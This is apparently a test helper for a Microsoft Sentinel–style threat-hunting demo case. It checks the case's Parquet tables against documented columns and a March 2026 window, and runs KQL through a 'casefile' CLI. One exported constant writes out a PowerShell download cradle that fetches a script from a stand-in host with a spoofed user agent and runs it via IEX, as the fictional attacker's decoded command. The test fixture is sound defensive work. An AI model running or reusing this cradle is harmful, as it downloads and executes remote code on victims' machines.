/**
 * Shared checks of the demo case's tables against Microsoft's table reference, for the tests
 * that add tables to the case (tests/demo_case_tables_test.ts, tests/demo_case_hunt_tables_test.ts).
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { pl } from "../src/polars.ts";
import { readManifest } from "../src/data/manifest.ts";
import { SENTINEL_TABLE_COLUMNS } from "../src/schema/_sentinel_tables.ts";

const REPO = fileURLToPath(new URL("../", import.meta.url));
/** The case under test: a generated copy can be checked before it is committed. */
export const DEMO_CASE = Deno.env.get("CASEFILE_DEMO_CASE_UNDER_TEST") ??
  join(REPO, "fixtures", "demo-case");
/** ANSWERS.md, stage 7: what the attacker's -EncodedCommand decodes to. */
export const CRADLE =
  "$u='https://cdn.edgeupdate-sync.example/a/u.ps1';$w=New-Object Net.WebClient;" +
  "$w.Headers.Add('User-Agent','Microsoft-CryptoAPI/10.0');IEX $w.DownloadString($u)";
/** The case window from ANSWERS.md ("The case"). */
export const CASE_START = Date.parse("2026-03-02T00:00:00Z");
/** The end of the case window (exclusive). */
export const CASE_END = Date.parse("2026-03-16T00:00:00Z");

/** How the case stores each Kusto type in Parquet. */
const STORED: Record<string, string> = {
  string: "String",
  dynamic: "String",
  datetime: "Datetime",
  long: "Int64",
  int: "Int32",
  real: "Float64",
  bool: "Bool",
};

/** The catalog's `Name:type, ...` text as pairs. */
export function catalogPairs(text: string): [string, string][] {
  return text.trim() === ""
    ? []
    : text.trim().split(/\s*,\s*/).map((p) => p.split(":") as [string, string]);
}

/**
 * Each of `tables` is in the case's manifest with exactly the catalog's documented and
 * undocumented columns plus the standard ones ("Standard columns in Azure Monitor Logs"),
 * stored as their types are, not empty, every TimeGenerated inside the case window.
 */
export async function checkDocumentedColumns(tables: readonly string[]): Promise<void> {
  const manifest = await readManifest(DEMO_CASE);
  assert.ok(manifest);
  for (const name of tables) {
    const entry = manifest.tables.find((t) => t.name === name);
    assert.ok(entry, `${name} is not in manifest.json`);
    const catalog = SENTINEL_TABLE_COLUMNS.find((t) => t.name === name)!;
    const expected = new Map([
      ...catalogPairs(catalog.documented),
      ...catalogPairs(catalog.undocumented),
      ["_ResourceId", "string"],
      ["_SubscriptionId", "string"],
      ["_ItemId", "string"],
    ]);
    const frame = pl.readParquet(join(DEMO_CASE, entry.file));
    const stored = Object.entries(frame.schema).map(([c, t]) => [c, String(t)] as const);
    assert.deepEqual(stored.map(([c]) => c).sort(), [...expected.keys()].sort(), name);
    for (const [column, type] of stored) {
      assert.ok(type.includes(STORED[expected.get(column)!]), `${name}.${column}: ${type}`);
    }
    assert.ok(frame.height > 0, `${name} is empty`);
    const times = frame.getColumn("TimeGenerated").cast(pl.Int64).toArray().map(Number);
    for (const t of times) {
      assert.ok(t >= CASE_START * 1000 && t < CASE_END * 1000, `${name}: ${t}`);
    }
  }
}

/**
 * `casefile query <kql> --format json --data <case>` on the demo case, as a person runs it:
 * its rows, after checking it succeeded without an unknown column or table.
 */
export async function casefileJson(kql: string): Promise<Record<string, unknown>[]> {
  const out = await new Deno.Command(Deno.execPath(), {
    args: [
      "run",
      "--allow-all",
      "repl/main.ts",
      "query",
      kql,
      "--format",
      "json",
      "--data",
      DEMO_CASE,
    ],
    cwd: REPO,
    stdout: "piped",
    stderr: "piped",
    env: { NO_COLOR: "1" },
  }).output();
  const stderr = new TextDecoder().decode(out.stderr);
  assert.equal(out.code, 0, stderr);
  assert.doesNotMatch(stderr, /Unknown column|Unknown table/);
  return JSON.parse(new TextDecoder().decode(out.stdout));
}
